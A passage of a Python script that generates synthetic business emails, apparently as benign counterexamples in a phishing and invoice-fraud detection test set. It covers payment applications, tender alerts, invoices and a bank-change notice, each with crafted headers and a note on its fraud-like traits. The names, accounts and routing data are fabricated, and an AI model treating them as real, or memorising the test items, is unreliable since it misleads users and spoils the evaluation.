                  '', 'Gross valuation (measured works)          1,081,240.00',
                  'Variations VO-001 to VO-030                  37,905.00',
                  'Materials on site (AHU-03, AHU-04)           28,600.00',
                  'Gross total                                1,147,745.00',
                  'Less retention 3%                            -34,432.35',
                  'Less previously certified                -1,009,120.50',
                  'Net amount due this period                  104,192.15  (+ VAT, domestic reverse charge)',
                  '', f'Payment to: Northbridge Mechanical Ltd, NatWest, IBAN {F["northbridge"]}'], 'AfP 13')
B(8, 'en', frm=('Gareth Lowe', 'g.lowe@northbridge-mech.co.uk'), to=S['sharma'], cc=[S['hughes']],
  subj='Northbridge Mechanical – Application for Payment No. 13 – Ward Block C', date=('2026-01-29 16:12:05', '+0000'),
  route=dict(kind='o365', ip='40.107.159.58', pfx='LO2P265', reg='GBRP265', rdns='lo4gbr01on2058', helo='GBR01-LO4-obe.outbound.protection.outlook.com'),
  text=T('''
Hi Priya,

Please find attached our Application for Payment No. 13 for Ward Block C (valuation date 31/01/2026), together with the updated variations log and the materials-on-site photos for AHU-03/04 (vesting certificates to follow from the manufacturer).

Net due this period is £104,192.15 + VAT (domestic reverse charge). Bank details unchanged.

Dan – VO-028 (additional LTHW isolation valves on level 2) is still awaiting your instruction number, can you let me have it so we can close it out?

Thanks,
Gareth

Gareth Lowe
Commercial Manager
Northbridge Mechanical Ltd
Unit 7, Trafford Park Road, Manchester M17 1HG
T: 0161 872 4410 | M: 07700 900 418
'''),
  atts=[('Northbridge_AfP13_WardBlockC.pdf', 'application/pdf', _afp)],
  note='Genuine monthly application for payment from the real subcontractor (their M365), PDF attached, "bank details unchanged"; payment request with amounts and IBAN could be mistaken for invoice fraud.')

# ---- 09 en: genuine Find a Tender notification (GOV.UK Notify)
_fts = 'https://www.find-tender.service.gov.uk/Notice/014522-2026'
B(9, 'en', frm=('Find a Tender', 'noreply@find-tender.service.gov.uk'), to=S['hughes'],
  subj='Find a Tender: 3 new notices match your alert "M&E healthcare North West"', date=('2026-03-03 06:01:14', '+0000'),
  route=dict(kind='saas', host='a27-45.smtp-out.eu-west-2.amazonses.com', ip='54.240.27.45', inner='notify-delivery-worker-sender-7f9c'),
  text=T(f'''
Find a Tender

Hello,

3 new notices match your saved search "M&E healthcare North West".

Tender notice (UK4): Ward Block D – Mechanical and Electrical Services
Pennine Health Estates LLP
Value: £7,900,000 – £8,600,000 | Closing: 14 April 2026
{_fts}

Planned procurement notice (UK2): Estates Decarbonisation Programme Phase 3 – heat pumps and LTHW conversion
NHS North West Estates Collaboration
https://www.find-tender.service.gov.uk/Notice/014498-2026

Preliminary market engagement notice (UK1): Hard FM and statutory maintenance – mechanical
Calderdale Community Health Partnership
https://www.find-tender.service.gov.uk/Notice/014377-2026

You can change or unsubscribe from your alerts by signing in to your account.

This is an automated message from Find a Tender, a GOV.UK service.
'''),
  note='Genuine GOV.UK Find a Tender alert sent via GOV.UK Notify (Amazon SES); contains several links and tender lures similar to attack 08.')

# ---- 10 en: genuine client thread, urgent, long quoted history
B(10, 'en', frm=('Rachel Okafor', 'r.okafor@penninehealthestates.co.uk'), to=S['bennett'], cc=[S['hughes'], ('Stuart Pilling', 's.pilling@penninehealthestates.co.uk')],
  subj='RE: Ward Block C – AHU-03 commissioning / CAR 17 – URGENT before Monday handover', date=('2026-03-20 17:48:33', '+0000'),
  route=dict(kind='o365', ip='52.101.96.41', pfx='CWXP265', reg='GBRP265', rdns='lo0gbr01on2041', helo='GBR01-LO0-obe.outbound.protection.outlook.com'),
  irt='<CWLP123MB4471D3A92E8F10B6C7E2A19F41D28@CWLP123MB4471.GBRP123.PROD.OUTLOOK.COM>', hdrs=[('Importance', 'high')],
  text=T('''
Oliver,

Thanks – that's helpful. To be clear, we cannot accept sectional completion on Monday unless the witnessed AHU-03 airflow readings are in the O&M file and the Authorising Engineer (Ventilation) has signed CAR 17 off. Infection Prevention have been very clear on this as the ward is going straight to clinical use.

Can your commissioning engineer be on site at 07:30 Monday with the AE? If the balancing on extract branch E3 is still out by more than 10% we will have to defer and that obviously has knock-on effects for the decant programme and LADs.

Please also send the revised HTM 03-01 verification report by Sunday evening if at all possible.

Regards,
Rachel

Rachel Okafor MRICS
Senior Project Manager – Capital Projects
Pennine Health Estates LLP

From: Oliver Bennett <o.bennett@examplegroup.eu>
Sent: 20 March 2026 15:02
To: Rachel Okafor <r.okafor@penninehealthestates.co.uk>
Cc: Daniel Hughes <d.hughes@examplegroup.eu>; Stuart Pilling <s.pilling@penninehealthestates.co.uk>
Subject: RE: Ward Block C – AHU-03 commissioning / CAR 17

Rachel,

Update from site: the fan on AHU-03 was replaced yesterday under warranty, re-balancing was done this morning. Supply is within 5% on all branches, extract branch E3 is at -12% – we suspect a damper that was closed by the ceiling contractor and are checking it now. I'll confirm by Saturday midday.

Oliver

From: Rachel Okafor <r.okafor@penninehealthestates.co.uk>
Sent: 19 March 2026 09:14
To: Oliver Bennett <o.bennett@examplegroup.eu>
Subject: Ward Block C – AHU-03 commissioning / CAR 17

Oliver,

The AE has raised CAR 17 on AHU-03 (air change rates in side rooms 3–6 below HTM 03-01 requirement of 10 ACH, pressure cascade not demonstrated). Please advise your programme for close-out ahead of the 23rd.

Rachel
'''),
  note='Genuine client project thread (real client domain, their M365) with long quoted history, urgency and "high importance"; no payment or link, but the urgency pattern resembles BEC.')

# ---- 11 en: genuine trade newsletter (Mailchimp)
_nl_txt = T('''
HVAC Europe Weekly – Issue 212 – 12 March 2026

F-gas Regulation: what the 2026 HFC quota cut means for your VRF projects
The second phase-down step under Regulation (EU) 2024/573 hits contractors this spring. We look at R32 and R290 alternatives, leak-check obligations and what clients are now writing into specs.
https://hvaceuropeweekly.us12.list-manage.com/track/click?u=8a2c41f7e9b3d06c5a1e72f48&id=3f91c07a2d&e=9b41d2e7c0

Hospitals: lessons from ten years of HTM 03-01 verifications
https://hvaceuropeweekly.us12.list-manage.com/track/click?u=8a2c41f7e9b3d06c5a1e72f48&id=7d2e0a19c4&e=9b41d2e7c0

EPBD recast: BACS class B obligations for non-residential buildings over 290 kW
https://hvaceuropeweekly.us12.list-manage.com/track/click?u=8a2c41f7e9b3d06c5a1e72f48&id=b08c3e5f71&e=9b41d2e7c0

Webinar, 26 March: commissioning heat pumps in existing LTHW systems – register free
https://hvaceuropeweekly.us12.list-manage.com/track/click?u=8a2c41f7e9b3d06c5a1e72f48&id=e4a7f12b90&e=9b41d2e7c0

You are receiving this email because you subscribed at hvaceuropeweekly.com.
Unsubscribe: https://hvaceuropeweekly.us12.list-manage.com/unsubscribe?u=8a2c41f7e9b3d06c5a1e72f48&id=51c8e0d2b7&e=9b41d2e7c0
HVAC Europe Media Ltd, 3 Brindley Place, Birmingham B1 2JB, United Kingdom
''')
B(11, 'en', frm=('HVAC Europe Weekly', 'newsletter@hvaceuropeweekly.com'), to=S['hughes'],
  subj='F-gas 2026: what the HFC quota cut means for your VRF projects | Issue 212', date=('2026-03-12 06:30:02', '+0000'),
  route=dict(kind='saas', host='mail182.suw11.mcsv.net', ip='198.2.182.11', inner='mail182.suw11.mcsv.net'),
  hdrs=[('List-Unsubscribe', '<https://hvaceuropeweekly.us12.list-manage.com/unsubscribe?u=8a2c41f7e9b3d06c5a1e72f48&id=51c8e0d2b7&e=9b41d2e7c0&c=2f4e1d>, <mailto:unsubscribe-mc.us12_8a2c41f7e9b3d06c5a1e72f48.2f4e1d-9b41d2e7c0@mailin.mcsv.net?subject=unsubscribe>'),
        ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('List-Id', '8a2c41f7e9b3d06c5a1e72f48mc list <8a2c41f7e9b3d06c5a1e72f48.1183057.list-id.mcsv.net>'),
        ('Precedence', 'bulk'), ('X-Mailer', 'Mailchimp Mailer - **CID2f4e1d9b41d2e7c0**')],
  text=_nl_txt, html=auto_html(_nl_txt, 'Georgia, serif'),
  note='Genuine trade newsletter the UK tender manager subscribed to, sent through Mailchimp with tracking redirect links and List-Unsubscribe; bulk with many tracked links.')

# ---- 12 en: genuine WeTransfer notification
_wt = 'https://wetransfer.com/downloads/5c2e9a71f0d4b38e6a1c07d2e9f4b51a20260316101522/8d3f1a'
_wt_txt = T(f'''
Rachel Okafor sent you some files

Ward Block C – Rev C IFC models + sprinkler/ductwork clash report

"Dan, as discussed at the coordination meeting – Rev C models from the architect and the sprinkler contractor's clash report. Please review against your Rev B ductwork model and come back with RFIs by Thursday. Rachel"

14 files · 1.62 GB · Expires in 7 days

Download your files: {_wt}

Download link: https://we.tl/t-Qm7vK2pR9x

To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.
''')
B(12, 'en', frm=('WeTransfer', 'noreply@wetransfer.com'), to=S['hughes'],
  subj='Rachel Okafor sent you Ward Block C – Rev C IFC models + clash report', date=('2026-03-16 10:15:29', '+0000'),
  route=dict(kind='saas', host='o1.sg.wetransfer.com', ip='167.89.107.183', rdns='o1.sg.wetransfer.com', inner='filterdrecv-7b5c8d4f6-2kxwn'),
  text=_wt_txt, html=auto_html(_wt_txt, 'Helvetica, Arial, sans-serif'),
  note='Genuine WeTransfer notification (WeTransfer domain via SendGrid) for BIM models agreed in a meeting; file-sharing notifications are a common phishing lure.')

# ---- 13 en: genuine Teams meeting invitation from developer client (.ics)
_cf_s = dt('2026-03-24 10:00:00', '+0000')
_teams = 'https://teams.microsoft.com/l/meetup-join/19%3ameeting_ZDk2YTE0NjYtN2Q0Yi00YjA5LWE2NTgtNWQ0YzI1OGQ3ZTRm%40thread.v2/0?context=%7b%22Tid%22%3a%22b3e9d2a0-4c71-4f8e-9a26-1d5e70c8f413%22%2c%22Oid%22%3a%228c41e2f7-03ad-4b19-b5e6-7f2a90d14c38%22%7d'
_cf_desc = ('Agenda: programme, logistics/crane plan, temporary works, M&E first-fix sequence, RAMS submission, '
            'site induction and CSCS cards.\n\nMicrosoft Teams meeting\nJoin on your computer, mobile app or room device\n' + _teams +
            '\nMeeting ID: 362 118 904 551\nPasscode: gT7kR2\n')
_cf_ics = ics('040000008200E00074C5B7101A82E0080000000090C8F7A2B6A5DC01000000000000000010000000C4D3E2F1A0B9C8D7',
              ('Mark Jennings', 'm.jennings@castlefield-developments.co.uk'), S['bennett'], _cf_s, _cf_s + timedelta(hours=2),
              'Pre-start meeting – Castlefield Quays Block B – M&E package', _cf_desc, 'Site cabin, Block B / Microsoft Teams')
B(13, 'en', frm=('Mark Jennings', 'm.jennings@castlefield-developments.co.uk'), to=S['bennett'], cc=[S['hughes']],
  subj='Pre-start meeting – Castlefield Quays Block B – M&E package', date=('2026-03-18 12:04:50', '+0000'),
  route=dict(kind='o365', ip='40.107.163.107', pfx='AS2PR08', reg='eurprd08', rdns='ams0eur01on2107', helo='EUR01-AM0-obe.outbound.protection.outlook.com'),
  text='Agenda: programme, logistics/crane plan, temporary works, M&E first-fix sequence, RAMS submission, site induction and CSCS cards.\n\n'
       '________________________________________________________________________________\nMicrosoft Teams meeting\nJoin on your computer, mobile app or room device\n'
       'Click here to join the meeting <' + _teams + '>\nMeeting ID: 362 118 904 551\nPasscode: gT7kR2\n'
       '________________________________________________________________________________\n',
  calendar=_cf_ics,
  note='Genuine Teams meeting invitation (text/calendar) from the developer client\'s M365 tenant with a real Teams join link; calendar invites are a 2026 phishing vector (see attack 13).')

# ---- 14 en: genuine urgent payment request from UK MD (internal)
B(14, 'en', frm=S['bennett'], to=S['sharma'], cc=[S['vogelsang']],
  subj='Same-day payment needed – Hallam Crane Hire mobilisation, Castlefield B (PO 4100-2231)', date=('2026-03-26 08:41:19', '+0000'),
  route=dict(kind='int', client='NB-MAN-0114', cip='10.44.1.54'), hdrs=[('Importance', 'high')],
  text=T('''
Priya,

Sorry for the short notice – Hallam need the mobilisation payment for the tower crane on Castlefield Block B cleared today, otherwise they lose the slot for the erection crew on Monday and we lose two weeks on the programme.

It's PO 4100-2231, approved in Coupa yesterday by me and Katrin (it was over my limit, hence Katrin in copy). Invoice HCH-26-0412 is in the AP inbox.

Hallam are an existing supplier – please pay to the account we already have on file. If the account on the invoice differs from the vendor master, do NOT pay it and call me; I'll sort it out with them directly. Same-day CHAPS is fine.

I'm on site all morning, mobile as usual.

Thanks,
Oliver

Oliver Bennett
Managing Director UK
Example Group UK Ltd | Manchester
'''),
  note='Genuine urgent same-day payment request from the UK managing director through the internal relay, CFO in copy, references an approved PO and insists on the vendor-master account; the pattern resembles CEO fraud.')

# ---- 15 it: genuine courtesy copy of e-invoice from haulier
_ferr_pdf = pdf_bytes(['#Ferretti Trasporti S.r.l.', "Via dell'Artigianato 41 - 24040 Verdellino (BG) - P.IVA 02874110163", '',
                       '#Fattura n. 146/2026 del 28/02/2026 - COPIA DI CORTESIA', 'Cliente: Example Group S.r.l. - Milano', '',
                       'Trasporto UTA e gruppi frigo Stoccarda - Lecco, cantiere Ospedale, 3 viaggi bilico   6.900,00',
                       'Scorta tecnica trasporto eccezionale 18/02                                      820,00',
                       'Imponibile 7.720,00  IVA 22% 1.698,40  Totale 9.418,40 EUR', '',
                       f'Pagamento: bonifico 60 gg d.f.f.m. - Intesa Sanpaolo - IBAN {F["ferretti"]}'], 'Fattura 146/2026')
B(15, 'it', frm=FERR_AMM, to=S['galli'], subj='Invio copia di cortesia fattura n. 146/2026 del 28/02/2026',
  date='2026-03-02 09:14:26',
  route=dict(kind='postfix', host='smtpdh02.ad.aruba.it', ip='62.149.155.162', rdns='smtpdh02-1.aruba.it', pub='93.41.212.18', chost='93-41-212-18.ip84.fastwebnet.it'),
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  text=T(f'''
Buongiorno,

in allegato inviamo copia di cortesia della fattura n. 146/2026 del 28/02/2026, regolarmente trasmessa al Sistema di Interscambio (codice destinatario M5UXCR1).

Si ricorda che la presente copia non ha valore ai fini fiscali; il documento valido è quello recapitato tramite SdI.

Modalità di pagamento: bonifico bancario 60 gg d.f.f.m. sulle coordinate di sempre (Intesa Sanpaolo, IBAN {F['ferretti']}).

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via dell'Artigianato 41 – 24040 Verdellino (BG)
Tel. 035 884 2210 – P.IVA 02874110163
'''),
  atts=[('FT_146_2026_copia_cortesia.pdf', 'application/pdf', _ferr_pdf)],
  note='Genuine courtesy copy of an SdI e-invoice from the known haulier\'s real mailbox and usual Aruba server, with the usual IBAN; an invoice with bank details and a PDF.')

# ---- 16 it: genuine operational thread with haulier contact
B(16, 'it', frm=COLOMBO, to=S['rinaldi'], cc=[('Ufficio Traffico Ferretti', 'traffico@ferretti-trasporti.it')],
  subj='R: R: Trasporto UTA cantiere Ospedale di Lecco – consegna 14/04 (trasporto eccezionale)', date=('2026-04-09 15:37:12', '+0200'),
  route=dict(kind='postfix', host='smtpdh04.ad.aruba.it', ip='62.149.155.164', rdns='smtpdh04-1.aruba.it', pub='93.41.212.18', chost='93-41-212-18.ip84.fastwebnet.it'),
  irt='<9e0d4c21-58b7-4f3a-a6e0-3c1b7d92e845@examplegroup.eu>', hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Importance', 'high')],
  text=T('''
Buongiorno ing. Rinaldi,

la Provincia ci ha appena rilasciato l'autorizzazione al transito per il trasporto eccezionale (sagoma 3,60 m) per martedì 14/04, con partenza da Stoccarda lunedì sera. Ci serve però entro le 17 di oggi la vostra conferma scritta su due punti, altrimenti perdiamo la scorta tecnica prenotata:

1) orario di arrivo in cantiere: la Polizia Locale di Lecco chiede di entrare in via dell'Eremo prima delle 7:00, quindi scarico tra le 6:30 e le 8:00 – l'autogrù da 90 t sarà già posizionata?
2) referente in cantiere per la firma del DDT e del CMR (nome e cellulare).

Se per voi va bene, confermo all'autista e alla scorta.

Grazie e buona giornata
Chiara Colombo
Ufficio Traffico – Trasporti eccezionali
Ferretti Trasporti S.r.l.
Cell. 348 771 2094

-----Messaggio originale-----
Da: Rinaldi Alessandro <a.rinaldi@examplegroup.eu>
Inviato: mercoledì 8 aprile 2026 18:20
A: Chiara Colombo <c.colombo@ferretti-trasporti.it>
Oggetto: R: Trasporto UTA cantiere Ospedale di Lecco – consegna 14/04

Buonasera Chiara,

confermo la consegna il 14/04. Le due UTA (sezioni da 2,4 x 3,5 m) vanno scaricate direttamente sulla platea lato nord, l'autogrù la prenotiamo noi. Fatemi sapere appena avete l'autorizzazione della Provincia.

Saluti
Alessandro Rinaldi

-----Messaggio originale-----
Da: Chiara Colombo <c.colombo@ferretti-trasporti.it>
Inviato: martedì 7 aprile 2026 11:02
A: Rinaldi Alessandro <a.rinaldi@examplegroup.eu>
Oggetto: Trasporto UTA cantiere Ospedale di Lecco – consegna 14/04

Buongiorno,

per le due UTA da ritirare presso il fornitore a Stoccarda serve un trasporto eccezionale. Possiamo fare la consegna il 14/04 o il 16/04, ci confermate la data?

Chiara Colombo
'''),
  note='Genuine operational thread with the haulier contact (real domain and server) with quoted history and a same-day deadline; urgency without any payment or link.')

# ---- 17 it: genuine PEC award notification (PEC envelope structure)
_pec_inner_txt = T('''
Spett.le Example Group S.r.l.

Oggetto: Procedura aperta per l'affidamento dei lavori di adeguamento degli impianti di climatizzazione e ventilazione del Blocco Operatorio del P.O. di Merate – CIG B4F2A17C9E – Comunicazione ex art. 90, comma 1, lett. c) del D.Lgs. 36/2023.

Si comunica che con determinazione n. 318 del 24/03/2026 la procedura in oggetto è stata aggiudicata all'operatore economico Example Group S.r.l. con il ribasso del 12,47% sull'importo a base di gara.

L'aggiudicazione diverrà efficace all'esito positivo delle verifiche dei requisiti tramite FVOE. Il provvedimento e i verbali di gara sono disponibili sulla piattaforma Sintel nella sezione "Comunicazioni della procedura".

Il termine dilatorio per la stipula del contratto decorre dalla data della presente comunicazione (art. 18, comma 3, D.Lgs. 36/2023).

Distinti saluti
Il RUP – Ing. Paola Vismara
ASST Lario Sud – UOC Tecnico Patrimoniale
''')
_inner = MIMENonMultipart('text', 'plain', charset='utf-8')
_inner.set_payload(quopri.encodestring(_pec_inner_txt.encode('utf-8')).decode('ascii'))
_inner['Content-Transfer-Encoding'] = 'quoted-printable'
del _inner['MIME-Version']
for _k, _v in [('From', 'ufficio.gare@pec.asst-lariosud.it'), ('To', 'examplegroup@legalmail.it'), ('Cc', 'm.desantis@examplegroup.eu'),
               ('Subject', "Comunicazione ex art. 90 D.Lgs. 36/2023 - Aggiudicazione CIG B4F2A17C9E"),
               ('Date', 'Wed, 25 Mar 2026 11:20:03 +0100'), ('Message-ID', '<20260325112003.7741@pec.asst-lariosud.it>'), ('MIME-Version', '1.0')]:
    _inner[_k] = _v
_hdr_order = ['From', 'To', 'Cc', 'Subject', 'Date', 'Message-ID', 'MIME-Version', 'Content-Type', 'Content-Transfer-Encoding']
_items = dict(_inner.items())
for _k in list(_items):
    del _inner[_k]
for _k in _hdr_order:
    _inner[_k] = _items[_k]
_daticert = T('''
<?xml version="1.0" encoding="UTF-8"?>
<postacert tipo="posta-certificata" errore="nessuno">
  <intestazione>
    <mittente>ufficio.gare@pec.asst-lariosud.it</mittente>
    <destinatari tipo="certificato">examplegroup@legalmail.it</destinatari>
    <destinatari tipo="esterno">m.desantis@examplegroup.eu</destinatari>
    <risposte>ufficio.gare@pec.asst-lariosud.it</risposte>
    <oggetto>Comunicazione ex art. 90 D.Lgs. 36/2023 - Aggiudicazione CIG B4F2A17C9E</oggetto>
  </intestazione>
  <dati>
    <gestore-emittente>ARUBA PEC S.p.A.</gestore-emittente>
    <data zona="+0100"><giorno>25/03/2026</giorno><ora>11:20:05</ora></data>
    <identificativo>opec21012.20260325112005.18842.612.1.53@pec.aruba.it</identificativo>
    <msgid>&lt;20260325112003.7741@pec.asst-lariosud.it&gt;</msgid>
  </dati>
</postacert>
''')
_pec = MIMEMultipart('mixed', boundary='----=_PEC_0C8E1F3A2B74D5E6')
del _pec['MIME-Version']
_pec.attach(tpart(T('''
Messaggio di posta certificata

Il giorno 25/03/2026 alle ore 11:20:05 (+0100) il messaggio
"Comunicazione ex art. 90 D.Lgs. 36/2023 - Aggiudicazione CIG B4F2A17C9E" è stato inviato da "ufficio.gare@pec.asst-lariosud.it"
indirizzato a:
examplegroup@legalmail.it ("posta certificata")
m.desantis@examplegroup.eu ("posta ordinaria")
Il messaggio originale è incluso in allegato.
Identificativo messaggio: opec21012.20260325112005.18842.612.1.53@pec.aruba.it
'''), 'plain', 'utf-8', 'qp'))
_pec.attach(apart('daticert.xml', 'application/xml', _daticert))
_pm = MIMEMessage(_inner)
del _pm['MIME-Version']
_pm.add_header('Content-Disposition', 'attachment', filename='postacert.eml')
_pec.attach(_pm)
B(17, 'it', frm=('Per conto di: ufficio.gare@pec.asst-lariosud.it', 'posta-certificata@pec.aruba.it'), to=('', 'examplegroup@legalmail.it'),
  cc=[S['desantis']], rcpt='m.desantis@examplegroup.eu', reply_to=('', 'ufficio.gare@pec.asst-lariosud.it'),
  subj='POSTA CERTIFICATA: Comunicazione ex art. 90 D.Lgs. 36/2023 - Aggiudicazione CIG B4F2A17C9E', date='2026-03-25 11:20:05',
  route=dict(kind='postfix', host='smtpcert03.pec.aruba.it', ip='62.149.158.93', rdns='smtpcert03.pec.aruba.it', cip='10.104.8.23', chost='pecgw07.aruba.it', via='ESMTP',
             mid='<opec21012.20260325112005.18842.612.1.53@pec.aruba.it>'),
  hdrs=[('X-Riferimento-Message-ID', '<20260325112003.7741@pec.asst-lariosud.it>'), ('X-Trasporto', 'posta-certificata')],
  root_override=_pec,
  note='Genuine certified-mail (PEC) award notification from a public hospital authority via the Aruba PEC provider, with daticert.xml and postacert.eml; the fake PEC in attack 16 imitates this format.')

# ---- 18 it: genuine subcontractor payment reminder
_durc = pdf_bytes(['#Durc On Line', 'Numero Protocollo INAIL_51884217   Data richiesta 12/02/2026   Scadenza validita 12/06/2026', '',
                   'Denominazione: IMPIANTI MORETTI S.R.L.   Codice fiscale: 03517240138',
                   'Sede legale: Via Valsassina 12, 23900 Lecco (LC)', '',
                   'Con il presente Documento si dichiara che il soggetto sopra identificato RISULTA REGOLARE nei',
                   'confronti di I.N.P.S., I.N.A.I.L. e CNCE (Casse Edili).'], 'DURC')
B(18, 'it', frm=('Impianti Moretti S.r.l.', 'amministrazione@impiantimoretti.it'), to=S['galli'], cc=[S['rinaldi']],
  subj='Sollecito pagamento fattura n. 87/2026 – SAL n. 2 – Cantiere Ospedale di Lecco', date=('2026-04-14 10:02:47', '+0200'),
  route=dict(kind='postfix', host='smtp.impiantimoretti.it', ip='151.1.219.40', rdns='smtp-out06.register.it', pub='2.228.71.130', chost='2-228-71-130.ip191.fastwebnet.it'),
  text=T(f'''
Gentile dott.ssa Galli,

con la presente siamo a sollecitare il pagamento della nostra fattura n. 87/2026 del 28/02/2026 relativa al SAL n. 2 (certificato di pagamento n. 2 emesso dalla D.L. in data 10/03/2026), di importo pari a € 54.120,00, scaduta il 31/03/2026.

Vi ricordiamo che ai sensi del contratto di subappalto il pagamento è previsto a 30 gg dall'emissione del certificato. In allegato vi rinviamo il DURC in corso di validità, come da vostra richiesta per lo sblocco.

Le coordinate bancarie sono quelle indicate in contratto (UniCredit, IBAN {F['moretti']}).

Vi preghiamo di farci sapere la data prevista per il pagamento; in mancanza di riscontro entro il 24/04 saremo costretti a rivedere la presenza delle nostre squadre in cantiere.

Cordiali saluti

Laura Moretti
Amministrazione
Impianti Moretti S.r.l. – Via Valsassina 12, 23900 Lecco
Tel. 0341 286 514
'''),
  atts=[('DURC_Impianti_Moretti_scad_12-06-2026.pdf', 'application/pdf', _durc)],
  note='Genuine payment reminder from the real subcontractor domain (not the lookalike in attack 19), with DURC attached and the contract IBAN; threatening tone about site presence resembles pressure tactics.')

# ---- 19 it: genuine Sintel (regional e-procurement) notification
B(19, 'it', frm=('Sintel – ARIA S.p.A.', 'noreply.sintel@ariaspa.it'), to=S['desantis'],
  subj='Sintel – Nuova comunicazione della procedura ID 198447321 – Chiarimenti pubblicati', date='2026-03-06 16:22:41',
  route=dict(kind='postfix', host='mailgw02.ariaspa.it', ip='193.206.204.72', cip='10.201.3.14', chost='sintel-app04.ariaspa.local', via='ESMTP'),
  text=T('''
Gentile Operatore Economico,

la informiamo che la Stazione Appaltante ASST LARIO SUD ha inviato una nuova comunicazione relativa alla procedura:

ID procedura: 198447321
Nome procedura: Lavori di adeguamento impianti di climatizzazione e ventilazione Blocco Operatorio P.O. di Merate – CIG B4F2A17C9E
Oggetto comunicazione: Pubblicazione chiarimenti n. 4-7

Per visualizzare la comunicazione acceda alla piattaforma Sintel dal sito www.ariaspa.it, sezione "Comunicazioni della procedura".

Questo messaggio è stato generato automaticamente, si prega di non rispondere.

ARIA S.p.A. – Azienda Regionale per l'Innovazione e gli Acquisti
'''),
  note='Genuine notification from the regional e-procurement platform about tender clarifications; no direct link, directs the user to the portal; resembles fake tender/portal notices.')

# ---- 20 it: genuine urgent internal request (bid bond + digital signature)
B(20, 'it', frm=S['desantis'], to=S['rinaldi'], cc=[S['galli']],
  subj='URGENTE – garanzia provvisoria + firma digitale offerta gara ASST entro le 12', date=('2026-02-26 08:12:33', '+0100'),
  route=dict(kind='int', client='NB-MIL-0042', cip='10.32.1.42'), hdrs=[('Importance', 'high')],
  text=T('''
Alessandro,

la polizza fideiussoria per la garanzia provvisoria della gara ASST (1% ridotto per certificazione ISO 9001, € 11.860,00) è arrivata ieri sera da Reale Mutua, ma va firmata digitalmente da te come legale rappresentante, insieme all'offerta economica e al DGUE. La scadenza su Sintel è oggi alle 12:00 e il caricamento della busta economica richiede almeno mezz'ora.

Trovi i tre file già pronti qui (SharePoint Gare-IT, cartella ASST-Merate > Busta B):
https://examplegroup.sharepoint.com/sites/Gare-IT/Shared%20Documents/2026/ASST-Merate/Busta%20B

Ti chiedo di firmarli con la smart card (CAdES, .p7m) e ricaricarli nella stessa cartella entro le 10:30. Francesca, il premio della polizza (€ 412,00) è già stato pagato con la carta aziendale, ti giro la ricevuta per la registrazione.

Se sei in riunione chiamami al volo al 335 618 0947.

Marco

Marco De Santis
Ufficio Gare – Example Group S.r.l.
'''),
  note='Genuine urgent internal request from the Italian tender manager via the internal relay, with a link to the company\'s own SharePoint and a signing deadline; urgency + link + money mention look like BEC.')

# ---- 21 pl: genuine invoice from logistics partner, ISO-8859-2
_pl_inv = pdf_bytes(['#Partner Logistik Sp. z o.o.', 'ul. Kolejowa 18, 55-040 Bielany Wroclawskie, NIP 8971823306', '',
                     '#Faktura VAT FV/0412/03/2026', 'Data wystawienia: 31.03.2026   Numer KSeF: 8971823306-20260331-4C1A9E07B2D3-5F',
                     'Nabywca: Example Group Sp. z o.o., ul. Legnicka 56, 54-204 Wroclaw, NIP 8992791124', '',
                     'Transport kontenerowy Stuttgart - Wroclaw, budowa DCM (5 kursow)    14 250,00',
                     'Rozladunek HDS, magazynowanie 12 dni                               2 180,00',
                     'Netto 16 430,00 PLN   VAT 23% 3 778,90 PLN   Brutto 20 208,90 PLN', '',
                     f'Termin platnosci: 30 dni   Rachunek: PKO BP {F["partner_old"]}'], 'FV/0412/03/2026')
B(21, 'pl', frm=PL_KSIEG, to=S['wojcik'], subj='Faktura FV/0412/03/2026 – Partner Logistik Sp. z o.o.', date=('2026-03-31 14:22:09', '+0200'),
  cs='iso-8859-2', route=dict(kind='postfix', host='s52.home.pl', ip='46.242.241.52', rdns='s52.home.pl', pub='31.179.12.44', chost='31-179-12-44.dynamic.chello.pl'),
  text=T(f'''
Dzień dobry,

w załączeniu przesyłamy wizualizację faktury FV/0412/03/2026 z dnia 31.03.2026 r. Faktura została wystawiona w KSeF (numer KSeF: 8971823306-20260331-4C1A9E07B2D3-5F) i jest dostępna w Państwa module odbioru.

Kwota do zapłaty: 20 208,90 zł brutto
Termin płatności: 30.04.2026 r.
Rachunek bez zmian (PKO BP): {F['partner_old']}

Pozdrawiamy
Ewa Sikorska
Dział Księgowości
Partner Logistik Sp. z o.o.
tel. +48 71 311 42 80
'''),
  atts=[('FV_0412_03_2026.pdf', 'application/pdf', _pl_inv)],
  note='Genuine invoice visualisation from the real Polish logistics partner (their home.pl hosting), with KSeF number and the long-known account; invoices with bank account numbers trigger invoice-fraud heuristics.')

# ---- 22 pl: genuine bank change from logistics partner, with phone verification
_pl_letter2 = pdf_bytes(['#Partner Logistik Sp. z o.o.', 'Bielany Wroclawskie, 14.04.2026', '',
                         '#Informacja o zmianie rachunku bankowego', '',
                         'Od dnia 01.06.2026 r. prosimy o regulowanie naleznosci na rachunek:',
                         f'  {F["partner_new"]}  (mBank S.A.)',
                         'Rachunek widnieje w Wykazie podatnikow VAT (biala lista).',
                         'Dotychczasowy rachunek w PKO BP pozostaje aktywny do 31.07.2026 r.', '',
                         'Prezes Zarzadu  /-/ Krzysztof Nowicki          Prokurent  /-/ Anna Lewandowska'], 'Informacja')
B(22, 'pl', frm=ZIELINSKI, to=S['wojcik'], cc=[PL_KSIEG],
  subj='Zmiana rachunku bankowego od 01.06 – proszę o weryfikację telefoniczną', date=('2026-04-14 11:08:51', '+0200'),
  route=dict(kind='postfix', host='s52.home.pl', ip='46.242.241.52', rdns='s52.home.pl', pub='31.179.12.44', chost='31-179-12-44.dynamic.chello.pl'),
  text=T(f'''
Pani Małgorzato,

zgodnie z naszą dzisiejszą rozmową telefoniczną przesyłam pismo w sprawie zmiany rachunku bankowego. Od 1 czerwca przechodzimy z obsługą do mBanku:

{F['partner_new']}

Rachunek jest już zgłoszony i widoczny na białej liście – można sprawdzić w wyszukiwarce Ministerstwa Finansów po naszym NIP 8971823306. Stary rachunek w PKO BP zostaje aktywny do końca lipca, więc nic się nie "zgubi".

Wiem, że u Państwa obowiązuje procedura oddzwonienia – proszę zadzwonić do Pani Ewy Sikorskiej z naszej księgowości na numer z umowy ramowej (71 311 42 80), a nie na numer z maila. Oryginał pisma z podpisami zarządu wyślemy też pocztą.

